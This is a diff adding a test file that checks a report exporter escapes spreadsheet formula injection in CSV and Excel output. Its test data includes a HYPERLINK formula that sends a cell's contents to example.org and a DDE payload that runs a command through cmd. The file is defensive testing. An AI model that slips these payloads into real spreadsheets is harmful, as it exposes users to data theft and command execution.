@@ -1,0 +1,47 @@
+import { parse } from 'csv-parse/sync';
+import readXlsxFile from 'read-excel-file/node';
+import { describe, expect, it } from 'vitest';
+import { csv, xlsx } from '../scripts/report/format.js';
+import { spreadsheetText } from '../shared/spreadsheet-cell.js';
+
+/** What editors may have written into a title or a name, each of which a spreadsheet would run. */
+const formulas = [
+  '=HYPERLINK("https://example.org/?d="&A1,"点此查看")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+describe('spreadsheet output never holds a formula (OWASP CSV injection)', () => {
+  it.each(formulas)('writes %j as text', (text) => {
+    expect(spreadsheetText(text)).toBe(`'${text}`);
+  });
+
+  it('leaves other text and numbers alone', () => {
+    for (const text of ['天津市社会工作服务中心', 'a=b', ' =1', '2024-01', ''])
+      expect(spreadsheetText(text)).toBe(text);
+  });
+
+  type Row = { region: string; title: string; value: number };
+  const rows: Row[] = formulas.map((title, i) => ({ region: 'TJ', title, value: -i - 0.5 }));
+
+  it('in the report as CSV: every such cell starts with a quote, negative numbers stay numbers', () => {
+    const [header, ...lines] = parse(csv<Row>(['region', 'title', 'value'], rows), {
+      bom: true,
+      relax_column_count: false,
+    }) as string[][];
+    expect(header).toEqual(['region', 'title', 'value']);
+    expect(lines.map((line) => line[1])).toEqual(formulas.map((text) => `'${text}`));
+    expect(lines.map((line) => line[2])).toEqual(rows.map((row) => String(row.value)));
+  });
+
+  it('in the report as a workbook: every such cell is text starting with a quote', async () => {
+    const [sheet] = await readXlsxFile(await xlsx<Row>(['region', 'title', 'value'], rows, '报告'));
+    const data = sheet!.data;
+    expect(data.slice(1).map((line) => line[1])).toEqual(formulas.map((text) => `'${text}`));
+    expect(data.slice(1).map((line) => line[2])).toEqual(rows.map((row) => row.value));
+  });
+});
